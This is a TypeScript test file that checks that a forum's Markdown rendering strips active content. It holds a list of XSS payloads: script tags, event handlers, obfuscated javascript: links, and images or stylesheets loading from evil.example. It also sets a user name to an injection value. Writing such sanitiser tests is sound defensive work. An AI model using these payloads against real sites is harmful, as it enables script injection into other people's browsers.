import '#db/testing.ts'
import { randomUUID } from 'node:crypto'
import { beforeAll, expect, test } from 'vitest'
import { anActor } from '#db/factories/person.ts'
import { aMember, aPlg, aTopic } from '#db/factories/plg.ts'
import type { Actor } from '#server/auth/actor.ts'
import { plainText } from '#server/platform/rich-text.ts'
import { writePostInput } from '../inputs.ts'
import { newFor } from '../views.ts'
import { writePost } from './commands.ts'
import { topicFor } from './views.ts'

/** What people have tried on sites that render Markdown, and what renderers have got wrong. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button>Weiter</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '</div></article><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JavaScript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](https://a.example "onmouseover="alert(1))',
  '[x](https://a.example/"onmouseover="alert(1))',
  "[x](https://a.example/'onmouseover='alert(1))",
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '![x](https://evil.example/pixel.gif)',
  '![x](//evil.example/pixel.gif)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][y]\n\n[y]: https://evil.example/pixel.gif',
  '![" onerror="alert(1)](x)',
  '[![x](https://evil.example/pixel.gif)](https://evil.example)',
  '`<script>alert(1)</script>`',
  '```"><script>alert(1)</script>\nx\n```',
  '    <script>alert(1)</script>',
  '|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
  '# <script>alert(1)</script>',
  '> <img src=x onerror=alert(1)>',
  '- [ ] <img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[^" onmouseover="alert(1)]\n\n[^" onmouseover="alert(1)]: x',
  'https://a.example/"onmouseover="alert(1)',
  'www.a.example/<script>alert(1)</script>',
  '@<img src=x onerror=alert(1)>',
  '@Kim <b>Muster</b>',
  '@Eva "><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202e<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
]

const ALLOWED: Record<string, RegExp | null> = {
  p: null,
  br: null,
  hr: null,
  strong: null,
  em: null,
  del: null,
  code: /^ class="language-[^"<>=]*"$/,
  pre: null,
  blockquote: null,
  ul: null,
  ol: /^ start="\d+"$/,
  li: null,
  h3: null,
  h4: null,
  h5: null,
  h6: null,
  table: null,
  thead: null,
  tbody: null,
  tr: null,
  th: /^ align="(left|center|right)"$/,
  td: /^ align="(left|center|right)"$/,
  span: /^ class="mention"$/,
  a: /^ rel="noopener noreferrer nofollow" href="[^"<>]*"( title="[^"<>]*")?$/,
}
/** What a browser makes of an address before it looks at the scheme. */
const schemeOf = (href: string) =>
  /^([a-z][a-z0-9+.-]*):/i.exec(href.replace(/[\u0000-\u0020]/g, ''))?.[1]?.toLowerCase() ?? 'own'
const SCHEMES = ['own', 'http', 'https', 'mailto', 'irc', 'ircs', 'xmpp']

/** Reads the tags as a browser would and names what must not be there. */
function dangersIn(html: string): string[] {
  return [...html.matchAll(/<\/?([^\s/>]*)([^>]*)>?/g)].flatMap(([tag, name = '', rest = '']) => {
    const attributes = rest.replace(/\s*\/$/, '')
    if (!Object.hasOwn(ALLOWED, name)) return [tag]
    if (attributes !== '' && !ALLOWED[name]?.test(attributes)) return [tag]
    const href = /href="([^"]*)"/.exec(attributes)?.[1]
    return href !== undefined && !SCHEMES.includes(schemeOf(href)) ? [tag] : []
  })
}

let writer: Actor
let place: { plg: string; topic: string }

beforeAll(async () => {
  const plg = await aPlg()
  writer = await anActor('teacher', {
    firstName: 'Eva',
    lastName: '"><img src=x onerror=alert(1)>',
  })
  const kim: Actor = await anActor('teacher', { firstName: 'Kim', lastName: '<b>Muster</b>' })
  for (const { id } of [writer, kim]) await aMember({ plgId: plg.id, personId: id })
  await aTopic({ plgId: plg.id, title: 'Frage' })
  place = { plg: plg.slug, topic: '1-frage' }
})

test('there are enough of them, and the reader of tags finds dangers', () => {
  expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(40)
  for (const active of [
    '<script>',
    '<a href="javascript:alert(1)">',
    '<p onclick="x">',
    '<img src="https://evil.example">',
    '<a rel="noopener noreferrer nofollow" href="javascript:x">',
    '<p title=x',
  ])
    expect(dangersIn(active)).not.toEqual([])
})

test('nothing that people write becomes active or loads anything', async () => {
  for (let at = 0; at < PAYLOADS.length; at += 10) {
    const bodies = PAYLOADS.slice(at, at + 10)
    for (const body of bodies) {
      const input = writePostInput.parse({ body: `${body}\n\nEnde`, clientKey: randomUUID() })
      await writePost(await fresh(), place, input)
    }
  }
  let count = 0
  for (let page = 1; page <= Math.ceil(PAYLOADS.length / 30); page++) {
    const { posts } = await topicFor(writer, { ...place, page, search: '' })
    for (const post of posts) {
      expect(dangersIn(post.html), PAYLOADS[post.number - 1]).toEqual([])
      count += 1
    }
  }
  expect(count).toBe(PAYLOADS.length)
})

/** The limit of posts counts per person, so each payload has a writer of its own. */
async function fresh(): Promise<Actor> {
  const actor: Actor = await anActor()
  const { db } = await import('#db/client.ts')
  const { plgId } = await db().selectFrom('topics').select('plgId').executeTakeFirstOrThrow()
  await aMember({ plgId, personId: actor.id })
  return actor
}

test('previews are plain text', async () => {
  const [news] = await newFor(writer)
  expect(typeof news?.firstWords).toBe('string')
  expect(plainText('**[x](https://a.example)** und `mehr`')).toBe('x und mehr')
})
